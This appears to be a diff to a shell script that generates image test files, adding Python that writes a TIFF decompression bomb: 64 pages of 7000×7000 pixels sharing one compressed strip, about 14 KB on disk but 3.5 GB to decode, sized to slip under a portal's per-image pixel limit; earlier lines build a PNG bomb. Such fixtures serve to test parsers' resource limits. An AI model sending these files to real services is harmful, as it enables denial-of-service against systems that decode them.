@@ -46,6 +46,20 @@ comp = zlib.compressobj(9)
 data = b"".join(comp.compress(row) for _ in range(h)) + comp.flush()
 def chunk(t, d): return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
 open("bomb.png", "wb").write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0)) + chunk(b"IDAT", data) + chunk(b"IEND", b""))
+# A TIFF page bomb: 64 black-and-white pages of 7000×7000 (49 MP, each under the portal's
+# pixel limit; 55 MB each to decode, 3.5 GB together) that all point at one Deflate strip of
+# white: ~14 KB on disk.
+w = h = 7000
+strip = zlib.compress(b"\xff" * ((w + 7) // 8 * h), 9)
+pages, entries = 64, 9
+ifd_len = 2 + entries * 12 + 4
+first = 8 + len(strip) + len(strip) % 2
+out = b"II*\0" + struct.pack("<I", first) + strip + b"\0" * (len(strip) % 2)
+for p in range(pages):
+    nxt = first + (p + 1) * ifd_len if p + 1 < pages else 0
+    tags = [(256, 4, w), (257, 4, h), (258, 3, 1), (259, 3, 8), (262, 3, 1), (273, 4, 8), (277, 3, 1), (278, 4, h), (279, 4, len(strip))]
+    out += struct.pack("<H", entries) + b"".join(struct.pack("<HHII", t, k, 1, v) for t, k, v in tags) + struct.pack("<I", nxt)
+open("bomb_pages.tif", "wb").write(out)
 PY
 printf 'GIF89a\001\000\001\000\000\000\000;' > animation.gif
 rm -f base.ppm
